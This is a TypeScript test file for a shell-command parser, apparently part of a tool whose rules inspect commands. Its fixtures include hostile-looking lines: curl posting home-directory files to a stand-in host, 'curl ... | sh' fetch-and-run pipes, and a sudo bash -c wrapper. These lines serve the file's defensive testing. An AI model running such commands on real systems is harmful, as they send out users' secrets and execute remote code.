import * as assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseShell } from '../../../server/src/parse/shell/shell';

// The shell's parser as the rules read it: commands with their words unquoted at exact offsets, pipes, substitutions,
// strings given to a shell read again, and what it cannot read left out line by line.

test('shell: words unquoted at their offsets, assignments, redirections, pipes and substitutions', () => {
  const text = 'FOO=1 curl -d @"$HOME/.x" https://e.example | sh\nC=$(cat ~/.a) && echo "é $C" > out';
  const { commands } = parseShell(text)!;
  assert.deepEqual(
    commands.map((command) => command.words.map((word) => word.text)),
    [['curl', '-d', '@$HOME/.x', 'https://e.example'], ['sh'], [], ['cat', '~/.a'], ['echo', 'é $C']],
  );
  const [curl, sh, assign, cat, echo] = commands;
  assert.equal(text.slice(curl.words[2].start, curl.words[2].end), '@"$HOME/.x"');
  assert.deepEqual(curl.words[2].variables, ['HOME']);
  assert.deepEqual(
    curl.assignments.map((item) => item.name),
    ['FOO'],
  );
  assert.deepEqual(sh.pipedFrom, [0]);
  assert.deepEqual([cat.substitutedIn, cat.assignedTo], [2, 'C']);
  assert.equal(assign.assignments[0].name, 'C');
  assert.equal(text.slice(echo.words[1].start, echo.words[1].end), '"é $C"');
  assert.deepEqual(
    echo.redirections.map((item) => [item.op, item.target.text]),
    [['>', 'out']],
  );
});

test('shell: `bash -c` and `eval` strings are read as scripts at their place; bad lines are left out', () => {
  const text = 'sudo bash -c "curl -s \\"https://e.example\\" | sh"\ncmd --mode <a|b>\necho "open\nls';
  const { commands, unread } = parseShell(text)!;
  const inner = commands.filter((command) => command.depth === 1);
  assert.deepEqual(
    inner.map((command) => command.words.map((word) => word.text)),
    [['curl', '-s', 'https://e.example'], ['sh']],
  );
  assert.equal(text.slice(inner[0].start, inner[0].words[2].end), 'curl -s \\"https://e.example\\"');
  assert.ok(commands.some((command) => command.words[0]?.text === 'cmd'));
  assert.deepEqual(
    unread.map((span) => text.slice(span.start, span.end)),
    ['echo "open'],
  );
});

test('shell: what tree-sitter-bash reads its own way is read as the shell does', () => {
  // Two assignments and a newline: tree-sitter-bash makes one command of them and the next line.
  const text = 'A=$(cat ~/.a) B=2\ncurl -d "$A" https://e.example 2>&1 >out\ncat <<EOF | sh\nid\nEOF\nunset A';
  const { commands } = parseShell(text)!;
  assert.deepEqual(
    commands.map((command) => [command.words.map((word) => word.text), command.assignments.map((item) => item.name)]),
    [
      [[], ['A', 'B']],
      [['cat', '~/.a'], []],
      [['curl', '-d', '$A', 'https://e.example'], []],
      [['cat'], []],
      [['sh'], []],
      [['unset', 'A'], []],
    ],
  );
  const [assign, , curl, cat, sh] = commands;
  assert.equal(text.slice(assign.start, assign.end), 'A=$(cat ~/.a) B=2');
  assert.deepEqual(
    curl.redirections.map((item) => [item.descriptor, item.op, item.target.text]),
    [
      ['2', '>&', '1'],
      [undefined, '>', 'out'],
    ],
  );
  // A here-document's lines are not part of the command; what follows its delimiter reads its output.
  assert.equal(text.slice(cat.start, cat.end), 'cat <<EOF');
  assert.equal(cat.redirections[0].body?.text, 'id\n');
  assert.deepEqual(sh.pipedFrom, [3]);
});

test('shell: text nested thousands deep is read without exhausting the stack', () => {
  const text = `echo ${'$('.repeat(5000)}x${')'.repeat(5000)}\ncurl https://e.example`;
  const { commands } = parseShell(text)!;
  assert.ok(commands.some((command) => command.words[0]?.text === 'curl'));
});
